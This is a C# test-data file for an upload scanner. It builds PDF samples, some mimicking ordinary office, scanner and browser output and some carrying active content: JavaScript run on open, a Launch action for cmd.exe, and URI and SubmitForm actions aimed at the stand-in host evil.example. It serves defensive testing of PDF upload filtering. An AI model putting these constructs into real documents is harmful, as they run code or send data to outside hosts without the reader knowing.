using static Zhengwu.Api.Tests.Uploads.Corpus;

namespace Zhengwu.Api.Tests.Uploads;

/// <summary>PDFs as offices make them, and those that do something when they are opened.</summary>
public static class CorpusPdf
{
    private const string Image = "/Type/XObject/Subtype/Image/Width 1654/Height 2339/BitsPerComponent 8/ColorSpace/DeviceGray";

    public static readonly IReadOnlyList<Sample> All =
    [
        // Benign: how scanners, office programs, browsers and phones write.
        new("pdf-scanner-jpeg-pages", Pdf, () => new PdfDraft("%PDF-1.4\n%\u00E2\u00E3\u00CF\u00D3\n").Page().Stream(5, $"{Image}/Filter/DCTDecode", CorpusJpeg.Picture(1654, 2339, CorpusJpeg.Jfif)).Table()),
        new("pdf-scanner-fax-and-jbig2", Pdf, () => new PdfDraft().Page().Stream(5, $"{Image}/Filter[/CCITTFaxDecode]/DecodeParms<</K -1>>", Noise(4000)).Stream(6, $"{Image}/Filter/JBIG2Decode", Noise(4000, 2)).Table()),
        new("pdf-white-page-unpacked-large", Pdf, () => new PdfDraft().Page().Stream(5, "/Type/XObject/Subtype/Image/Width 4960/Height 7016/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode", CorpusPng.Zlib(new byte[34_799_360])).Table()),
        new("pdf-word-two-tables", Pdf, () => new PdfDraft("%PDF-1.7\r\n%\u00B5\u00B5\u00B5\u00B5\r\n").Page("/Lang(zh-CN)/StructTreeRoot 9 0 R/MarkInfo<</Marked true>>").Object(9, "<</Type/StructTreeRoot/K[<</S/P/P 9 0 R>>]>>").Table("/Info 9 0 R/ID[<0011><0011>]")),
        new("pdf-wps-object-streams", Pdf, () => Compressed()),
        new("pdf-chromium-print", Pdf, () => new PdfDraft("%PDF-1.4\n%\u00D3\u00EB\u00E9\u00E1\n").Object(5, "<</Creator (Chromium)/Producer (Skia/PDF m126)/CreationDate (D:20261120)>>").Page("", "/StructParents 0/Group<</S/Transparency/CS/DeviceRGB>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</Type/Action/S/URI/URI(https://example.gov.cn/)>>>>]").Table("/Info 5 0 R")),
        new("pdf-libreoffice-open-on-page", Pdf, () => new PdfDraft().Page("/OpenAction[3 0 R /XYZ null null 0]/ViewerPreferences<</DisplayDocTitle true>>").Table("/DocChecksum /0123456789ABCDEF")),
        new("pdf-latex-open-goto", Pdf, () => new PdfDraft().Page("/OpenAction 7 0 R").Object(7, "<</S/GoTo/D[3 0 R/Fit]>>").Table()),
        new("pdf-reportlab-ascii85", Pdf, () => new PdfDraft("%PDF-1.3\n%\u0093\u008C\u008B\u009E ReportLab\n").Page().Stream(5, "/Filter[/ASCII85Decode/FlateDecode]", Ascii("GapQh0E=F,0U\\H3T\\pNYT^QKk?tc>IP,;W#U1^23ihPEM_?CW4KISi90MjG^2,FS#<RC5+c,n)Z;$bK$b\"5I[<!^TD#gi]&=5X,[5@Y@V~>")).Table()),
        new("pdf-signed-with-seal", Pdf, () => new PdfDraft().Page("/AcroForm<</SigFlags 3/Fields[8 0 R]>>").Object(8, "<</FT/Sig/T(seal)/V<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 9 9 9]/Contents<3080>>>>>").Table()),
        new("pdf-updated-without-line-end", Pdf, () => Join(new PdfDraft().Page().Table(end: ""), Ascii("5 0 obj\n<</Title(new)>>\nendobj\nxref\n5 1\n0000000600 00000 n \ntrailer\n<</Size 6/Root 1 0 R/Info 5 0 R/Prev 9>>\nstartxref\n600\n%%EOF\r\n\0\0"))),
        new("pdf-length-elsewhere", Pdf, () => new PdfDraft().Page().Stream(5, "/Filter/FlateDecode", CorpusPng.Zlib(Ascii("0 0 m 1 1 l S")), "6 0 R").Object(6, "21").Table()),
        new("pdf-chinese-texts-and-strings", Pdf, () => new PdfDraft().Page("/Lang(\\(x\\)\\\\)").Object(5, "<</Title<FEFF7533 8BF7>/Author(a(b)c\\)d)/Keywords()>>").Table("/Info 5 0 R")),
        new("pdf-short-names-in-a-glyph-list", Pdf, () => new PdfDraft().Page().Object(5, "<</Type/Encoding/Differences[65/A/AA/JS/EF]>>").Table()),
        // Hostile: something runs.
        new("pdf-javascript-on-open", Pdf, () => new PdfDraft().Page("/OpenAction<</S/JavaScript/JS(app.alert(1))>>").Table()),
        new("pdf-javascript-elsewhere", Pdf, () => new PdfDraft().Page("/OpenAction 7 0 R").Object(7, "<</S/JavaScript/JS 8 0 R>>").Stream(8, "", Ascii("app.alert(1)")).Table()),
        new("pdf-javascript-name-tree", Pdf, () => new PdfDraft().Page("/Names<</JavaScript<</Names[(a)7 0 R]>>>>").Table()),
        new("pdf-javascript-escaped", Pdf, () => new PdfDraft().Page("/OpenAction<</S/#4Aava#53cript/J#53(app.alert(1))>>").Table()),
        new("pdf-page-additional-actions", Pdf, () => new PdfDraft().Page("", "/AA<</O<</S/Named/N/Print>>>>").Table()),
        new("pdf-launch", Pdf, () => new PdfDraft().Page("", "/Annots[<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]").Table()),
        new("pdf-open-uri", Pdf, () => new PdfDraft().Page("/OpenAction<</S/URI/URI(http://evil.example/)>>").Table()),
        new("pdf-open-uri-elsewhere", Pdf, () => new PdfDraft().Page("/OpenAction 7 0 R").Object(7, "<</S/URI/URI(http://evil.example/)>>").Table()),
        new("pdf-open-missing", Pdf, () => new PdfDraft().Page("/OpenAction 77 0 R").Table()),
        new("pdf-submit-form", Pdf, () => new PdfDraft().Page("", "/Annots[<</Subtype/Widget/A<</S/SubmitForm/F(http://evil.example/)>>>>]").Table()),
        new("pdf-import-data", Pdf, () => new PdfDraft().Page("", "/Annots[<</A<</S/ImportData/F(x.fdf)>>>>]").Table()),
        new("pdf-xfa", Pdf, () => new PdfDraft().Page("/AcroForm<</XFA 7 0 R>>").Stream(7, "", Ascii("<xdp/>")).Table()),
        new("pdf-rich-media", Pdf, () => new PdfDraft().Page("", "/Annots[<</Subtype/RichMedia>>]").Table()),
        new("pdf-movie", Pdf, () => new PdfDraft().Page("", "/Annots[<</Subtype/Movie/Movie<</F(x.avi)>>>>]").Table()),
        new("pdf-attachment", Pdf, () => new PdfDraft().Page("/Names<</EmbeddedFiles<</Names[(a)7 0 R]>>>>").Object(7, "<</Type/Filespec/EF<</F 8 0 R>>>>").Stream(8, "/Type/EmbeddedFile", Ascii("MZ")).Table()),
        new("pdf-attachment-without-a-name", Pdf, () => new PdfDraft().Page("", "/Annots[<</Subtype/FileAttachment/FS<</E#46<</F 8 0 R>>>>>>]").Stream(8, "", Ascii("MZ")).Table()),
        new("pdf-goto-embedded", Pdf, () => new PdfDraft().Page("", "/Annots[<</A<</S/GoToE>>>>]").Table()),
        new("pdf-encrypted", Pdf, () => new PdfDraft().Page().Object(5, "<</Filter/Standard/V 2/R 3>>").Table("/Encrypt 5 0 R")),
        new("pdf-encrypted-escaped", Pdf, () => new PdfDraft().Page().Object(5, "<</Filter/Standard/V 2/R 3>>").Table("/Encr#79pt 5 0 R")),
        new("pdf-encrypted-xref-stream", Pdf, () => new PdfDraft().Page().Object(5, "<</Filter/Standard/V 5/R 6>>").XrefStream(6, "/Encrypt 5 0 R")),
    ];

    private static byte[] Compressed() => new PdfDraft("%PDF-1.5\n%\u00B5\u00B5\n").Packed(4, "", "0 0 m").Objects(5, (1, "<</Type/Catalog/Pages 2 0 R>>"), (2, "<</Type/Pages/Kids[3 0 R]/Count 1>>"), (3, "<</Type/Page/Parent 2 0 R/Contents 4 0 R>>"), (6, "[1 2]"), (7, "6 0 R"))
        .XrefStream(8, "", (1, 5, 0), (2, 5, 1), (3, 5, 2), (6, 5, 3), (7, 5, 4));
}
